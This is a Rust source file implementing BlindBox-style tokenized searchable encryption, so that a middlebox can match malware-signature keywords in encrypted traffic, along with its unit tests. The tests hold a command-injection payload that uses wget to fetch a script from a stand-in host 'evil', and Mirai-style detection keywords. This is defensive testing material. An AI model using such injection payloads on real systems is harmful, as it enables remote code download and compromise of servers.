//! BlindBox-style tokenized searchable encryption.
//!
//! The paper's network-layer design (§IV-B2) proposes matching
//! malware-signature keywords inside encrypted traffic *without* breaking
//! end-to-end encryption, "similar to BlindBox" [Sherry et al., SIGCOMM'15].
//! This module implements the core of that scheme:
//!
//! 1. The sender encrypts the payload normally (out of scope here) and
//!    additionally emits **tokens**: a PRF under a session token key of
//!    every sliding window of the plaintext.
//! 2. The middlebox holds rule tokens — the same PRF applied to each rule
//!    keyword (computed by the rule authority with the token key) — and
//!    matches them against traffic tokens with no access to the plaintext.
//!
//! Windows are fixed-size ([`TOKEN_WINDOW`]) so token streams leak only
//! payload length, not content (up to PRF security).

use crate::ciphers::Speck128;
use crate::kdf::derive_key;
use crate::{BlockCipher, CryptoError};

/// Sliding-window width in bytes for tokenization (BlindBox uses 8).
pub const TOKEN_WINDOW: usize = 8;

/// Number of PRF output bytes kept per token.
pub const TOKEN_SIZE: usize = 8;

/// An encrypted inspection token: the PRF image of one plaintext window.
pub type Token = [u8; TOKEN_SIZE];

/// Domain-separation label of the window PRF.
const LABEL: &[u8; 14] = b"blindbox-token";

/// Length of every PRF message `LABEL ‖ 0x1F ‖ window`.
const MESSAGE_LEN: usize = LABEL.len() + 1 + TOKEN_WINDOW;

/// Per-session tokenizer shared (via the XLF Core key exchange) between
/// the endpoint and the inspecting middlebox rule authority.
///
/// A window's token is the first [`TOKEN_SIZE`] bytes of the CBC-MAC PRF
/// ([`crate::mac::prf`]) under the session token key, labelled
/// `"blindbox-token"`. With length prepending and zero padding that MAC
/// input is two SPECK blocks:
///
/// ```text
/// block 0: len_be(23) ‖ "blindbox"
/// block 1: "-token" ‖ 0x1F ‖ window ‖ 0x00
/// ```
///
/// Every message has the same length, so block 0 — and the CBC state
/// after it — is the same for every window of a session. The tokenizer
/// computes that state once, and each window then costs one SPECK
/// encryption of block 1, four windows at a time.
///
/// # Example
///
/// ```
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// use xlf_lwcrypto::searchable::Tokenizer;
///
/// let sender = Tokenizer::new(b"session secret")?;
/// let middlebox = Tokenizer::new(b"session secret")?;
///
/// let traffic = sender.tokenize(b"GET /bot.sh HTTP/1.1");
/// let rule = middlebox.rule_token(b"/bot.sh ");
/// assert!(traffic.contains(&rule));
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Tokenizer {
    cipher: Speck128,
    /// CBC state after block 0, XORed with block 1's constant bytes
    /// (`"-token" ‖ 0x1F` in `x`): block 1 only adds the window bits.
    x0: u64,
    y0: u64,
}

impl Tokenizer {
    /// Derives the token key from a session secret and builds the
    /// tokenizer.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidParameter`] if the secret is empty.
    pub fn new(session_secret: &[u8]) -> Result<Self, CryptoError> {
        let key = derive_key(session_secret, "xlf-searchable-token", 16)?;
        let cipher = Speck128::new(&key).expect("16-byte derived key");
        let mut block = [0u8; 16];
        block[..8].copy_from_slice(&(MESSAGE_LEN as u64).to_be_bytes());
        block[8..].copy_from_slice(&LABEL[..8]);
        cipher.encrypt_block(&mut block)?;
        let mut tail = [0u8; 8];
        tail[..6].copy_from_slice(&LABEL[8..]);
        tail[6] = 0x1F;
        let x0 =
            u64::from_be_bytes(block[..8].try_into().expect("8 bytes")) ^ u64::from_be_bytes(tail);
        let y0 = u64::from_be_bytes(block[8..].try_into().expect("8 bytes"));
        Ok(Tokenizer { cipher, x0, y0 })
    }

    /// Tokens of [`Speck128::LANES`] windows, each given as its
    /// big-endian word. Block 1 carries the window's first byte in the
    /// low byte of `x` and its other seven bytes in the top of `y`.
    fn tokens(&self, windows: [u64; Speck128::LANES]) -> [Token; Speck128::LANES] {
        let mut x = windows.map(|w| self.x0 ^ (w >> 56));
        let mut y = windows.map(|w| self.y0 ^ (w << 8));
        self.cipher.encrypt_lanes(&mut x, &mut y);
        x.map(u64::to_be_bytes)
    }

    /// Writes the token stream of `payload` into `out`, replacing its
    /// contents: one token per sliding window (stride 1). Payloads
    /// shorter than the window emit a single zero-padded token. Reusing
    /// `out` across payloads keeps tokenization allocation-free.
    ///
    /// A token is a function of its window alone, so only a window that
    /// differs from its predecessor — the head of a run of equal windows
    /// — is encrypted, four heads per SPECK call; the rest of the run
    /// copies the head's token. Space-padded telemetry is mostly one
    /// long run of `"        "` windows.
    pub fn tokenize_into(&self, payload: &[u8], out: &mut Vec<Token>) {
        out.clear();
        if payload.len() < TOKEN_WINDOW {
            out.push(self.rule_token(payload));
            return;
        }
        let count = payload.len() + 1 - TOKEN_WINDOW;
        let word = |at: usize| {
            u64::from_be_bytes(
                payload[at..at + TOKEN_WINDOW]
                    .try_into()
                    .expect("8-byte window"),
            )
        };
        out.reserve(count);
        // Pending run heads: each lane's window and the offset its run
        // starts at. A run ends where the next head starts.
        let mut head = word(0);
        let mut windows = [head; Speck128::LANES];
        let mut starts = [0; Speck128::LANES];
        let mut lanes = 1;
        for at in 1..count {
            let window = word(at);
            if window == head {
                continue;
            }
            if lanes == Speck128::LANES {
                self.push_runs(windows, &starts, at, out);
                lanes = 0;
            }
            head = window;
            windows[lanes] = window;
            starts[lanes] = at;
            lanes += 1;
        }
        // A short last batch repeats its final head in the spare lanes.
        for lane in lanes..Speck128::LANES {
            windows[lane] = windows[lanes - 1];
            starts[lane] = count;
        }
        self.push_runs(windows, &starts, count, out);
    }

    /// Appends the runs headed by `windows`: lane `i`'s token, repeated
    /// from `starts[i]` up to the next lane's start (`end` for the last
    /// lane). Spare lanes start at `end` and so push nothing.
    fn push_runs(
        &self,
        windows: [u64; Speck128::LANES],
        starts: &[usize; Speck128::LANES],
        end: usize,
        out: &mut Vec<Token>,
    ) {
        let tokens = self.tokens(windows);
        if end == starts[0] + Speck128::LANES && starts[Speck128::LANES - 1] + 1 == end {
            // Four heads on consecutive windows: no repeats to copy.
            out.extend_from_slice(&tokens);
            return;
        }
        for lane in 0..Speck128::LANES {
            let run_end = starts.get(lane + 1).copied().unwrap_or(end);
            out.extend(std::iter::repeat_n(tokens[lane], run_end - starts[lane]));
        }
    }

    /// Produces the token stream for an outgoing payload (see
    /// [`Tokenizer::tokenize_into`]).
    pub fn tokenize(&self, payload: &[u8]) -> Vec<Token> {
        let mut out = Vec::new();
        self.tokenize_into(payload, &mut out);
        out
    }

    /// Produces the token for a rule keyword. Keywords shorter than the
    /// window are zero-padded (and will then only match padded short
    /// payloads); longer keywords use their first window — callers should
    /// split long keywords into windows via [`Tokenizer::rule_tokens`].
    pub fn rule_token(&self, keyword: &[u8]) -> Token {
        let first = &keyword[..keyword.len().min(TOKEN_WINDOW)];
        let mut window = [0u8; TOKEN_WINDOW];
        window[..first.len()].copy_from_slice(first);
        self.tokens([u64::from_be_bytes(window); Speck128::LANES])[0]
    }

    /// Splits a long keyword into consecutive window tokens (stride 1), so
    /// a match requires the full keyword to appear contiguously.
    pub fn rule_tokens(&self, keyword: &[u8]) -> Vec<Token> {
        self.tokenize(keyword)
    }
}

/// Matches rule tokens against a traffic token stream: returns the indices
/// where the full rule-token sequence occurs contiguously.
///
/// This is the naive reference path — O(|rule| × |traffic|) per rule, so
/// O(rules × traffic) for a rule set. Production inspection goes through
/// [`TokenIndex`], which amortizes the whole rule set into one pass;
/// this scan is kept for A/B measurement and as the equivalence oracle
/// in property tests.
pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
    if rule.is_empty() || rule.len() > traffic.len() {
        return Vec::new();
    }
    traffic
        .windows(rule.len())
        .enumerate()
        .filter(|(_, w)| *w == rule)
        .map(|(i, _)| i)
        .collect()
}

/// Tokens are already PRF images — uniformly distributed 8-byte strings —
/// so the index hashes them by identity (their first 8 bytes *are* a
/// high-quality hash). Re-hashing through SipHash would only add cost.
#[derive(Debug, Clone, Copy, Default)]
struct TokenIdentityHasher(u64);

impl std::hash::Hasher for TokenIdentityHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, _bytes: &[u8]) {
        unreachable!("TokenIndex only hashes u64 keys");
    }
    fn write_u64(&mut self, value: u64) {
        self.0 = value;
    }
}

type TokenMap<V> =
    std::collections::HashMap<u64, V, std::hash::BuildHasherDefault<TokenIdentityHasher>>;

fn token_key(token: &Token) -> u64 {
    u64::from_le_bytes(*token)
}

/// Single-pass multi-rule matching over encrypted token streams.
///
/// Per-session rule-token sequences go into a hash index keyed by each
/// rule's **first** window token. The traffic stream is walked once; an
/// index hit at offset `i` nominates candidate rules, and a candidate
/// matches when its remaining window tokens chain at consecutive offsets
/// `i+1, i+2, …` (multi-window rules are exactly consecutive sliding
/// windows of the keyword, so the chain check is a contiguous slice
/// compare). Expected cost is O(traffic tokens + verified candidates)
/// instead of the naive O(rules × traffic tokens).
#[derive(Debug, Clone, Default)]
pub struct TokenIndex {
    /// First window token → ids of rules starting with it.
    heads: TokenMap<Vec<u32>>,
    /// Full token sequences, in the id order given to [`TokenIndex::build`].
    rules: Vec<Vec<Token>>,
}

impl TokenIndex {
    /// Builds the index from per-rule token sequences (as produced by
    /// [`Tokenizer::rule_tokens`]). Empty sequences are accepted and
    /// never match, mirroring [`match_rule`].
    pub fn build(rules: Vec<Vec<Token>>) -> Self {
        let mut heads: TokenMap<Vec<u32>> = TokenMap::default();
        for (id, rule) in rules.iter().enumerate() {
            if let Some(first) = rule.first() {
                heads.entry(token_key(first)).or_default().push(id as u32);
            }
        }
        TokenIndex { heads, rules }
    }

    /// Number of indexed rules.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    fn chains_at(&self, traffic: &[Token], rule: &[Token], offset: usize) -> bool {
        offset + rule.len() <= traffic.len() && traffic[offset..offset + rule.len()] == rule[..]
    }

    /// Finds the first match offset of each rule in one traffic pass,
    /// stopping early once every rule has matched. `out` is reset by the
    /// callee so batch callers can reuse the allocation.
    pub fn find_first_per_rule_into(&self, traffic: &[Token], out: &mut Vec<Option<usize>>) {
        out.clear();
        out.resize(self.rules.len(), None);
        let mut remaining = self.heads.values().map(Vec::len).sum::<usize>();
        if remaining == 0 {
            return;
        }
        for (offset, token) in traffic.iter().enumerate() {
            let Some(candidates) = self.heads.get(&token_key(token)) else {
                continue;
            };
            for &id in candidates {
                let slot = &mut out[id as usize];
                if slot.is_none() && self.chains_at(traffic, &self.rules[id as usize], offset) {
                    *slot = Some(offset);
                    remaining -= 1;
                    if remaining == 0 {
                        return;
                    }
                }
            }
        }
    }

    /// Allocating convenience wrapper over
    /// [`TokenIndex::find_first_per_rule_into`].
    pub fn find_first_per_rule(&self, traffic: &[Token]) -> Vec<Option<usize>> {
        let mut out = Vec::new();
        self.find_first_per_rule_into(traffic, &mut out);
        out
    }

    /// Every match offset of every rule (the full [`match_rule`]
    /// answer for the whole set), still in one traffic pass.
    pub fn find_positions(&self, traffic: &[Token]) -> Vec<Vec<usize>> {
        let mut out = vec![Vec::new(); self.rules.len()];
        for (offset, token) in traffic.iter().enumerate() {
            let Some(candidates) = self.heads.get(&token_key(token)) else {
                continue;
            };
            for &id in candidates {
                if self.chains_at(traffic, &self.rules[id as usize], offset) {
                    out[id as usize].push(offset);
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn matching_without_plaintext() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(!match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn clean_traffic_does_not_match() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let traffic = t.tokenize(b"GET /weather/today?zip=44106 HTTP/1.1");
        let rule = t.rule_tokens(b"wget${IFS}");
        assert!(match_rule(&traffic, &rule).is_empty());
    }

    #[test]
    fn different_sessions_produce_unlinkable_tokens() {
        let a = Tokenizer::new(b"session A").unwrap();
        let b = Tokenizer::new(b"session B").unwrap();
        assert_ne!(a.tokenize(b"identical"), b.tokenize(b"identical"));
    }

    #[test]
    fn match_positions_are_correct() {
        let t = Tokenizer::new(b"k").unwrap();
        let payload = b"xxxxNEEDLE01yyyyNEEDLE01";
        let traffic = t.tokenize(payload);
        let rule = t.rule_tokens(b"NEEDLE01");
        assert_eq!(match_rule(&traffic, &rule), vec![4, 16]);
    }

    #[test]
    fn short_payload_and_keyword_roundtrip() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"hi");
        let rule = t.rule_token(b"hi");
        assert_eq!(traffic, vec![rule]);
    }

    #[test]
    fn empty_rule_never_matches() {
        let t = Tokenizer::new(b"k").unwrap();
        let traffic = t.tokenize(b"whatever payload");
        assert!(match_rule(&traffic, &[]).is_empty());
    }

    #[test]
    fn token_index_agrees_with_naive_scan() {
        let t = Tokenizer::new(b"shared session key").unwrap();
        let rules: Vec<Vec<Token>> = [
            &b"wget${IFS}"[..],
            b"/bin/busybox MIRAI",
            b"NEEDLE01",
            b"",
            b"absent-keyword",
        ]
        .iter()
        .map(|kw| t.rule_tokens(kw))
        .collect();
        let index = TokenIndex::build(rules.clone());
        assert_eq!(index.rule_count(), rules.len());
        for payload in [
            &b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0"[..],
            b"xxxxNEEDLE01yyyyNEEDLE01",
            b"GET /weather/today?zip=44106 HTTP/1.1",
            b"hi",
            b"",
        ] {
            let traffic = t.tokenize(payload);
            let expected_firsts: Vec<Option<usize>> = rules
                .iter()
                .map(|r| match_rule(&traffic, r).first().copied())
                .collect();
            assert_eq!(index.find_first_per_rule(&traffic), expected_firsts);
            let expected_all: Vec<Vec<usize>> =
                rules.iter().map(|r| match_rule(&traffic, r)).collect();
            assert_eq!(index.find_positions(&traffic), expected_all);
        }
    }

    #[test]
    fn token_index_handles_shared_first_window() {
        // Two rules with the same first window but different tails must
        // both resolve through the same index bucket.
        let t = Tokenizer::new(b"k").unwrap();
        let rules = vec![t.rule_tokens(b"prefix-AAAA"), t.rule_tokens(b"prefix-BBBB")];
        let index = TokenIndex::build(rules);
        let traffic = t.tokenize(b"zz prefix-BBBB zz");
        assert_eq!(index.find_first_per_rule(&traffic), vec![None, Some(3)]);
    }

    #[test]
    fn token_index_scratch_buffer_is_reset() {
        let t = Tokenizer::new(b"k").unwrap();
        let index = TokenIndex::build(vec![t.rule_tokens(b"NEEDLE01")]);
        let mut scratch = Vec::new();
        index.find_first_per_rule_into(&t.tokenize(b"..NEEDLE01.."), &mut scratch);
        assert_eq!(scratch, vec![Some(2)]);
        index.find_first_per_rule_into(&t.tokenize(b"clean payload"), &mut scratch);
        assert_eq!(scratch, vec![None]);
    }

    #[test]
    fn tokens_do_not_reveal_plaintext_bytes() {
        let t = Tokenizer::new(b"k").unwrap();
        let tokens = t.tokenize(b"AAAAAAAAAAAAAAAA");
        // All windows identical → all tokens identical (expected leak), but
        // the token bytes must not equal the plaintext bytes.
        for token in &tokens {
            assert_ne!(&token[..], b"AAAAAAAA");
        }
    }
}
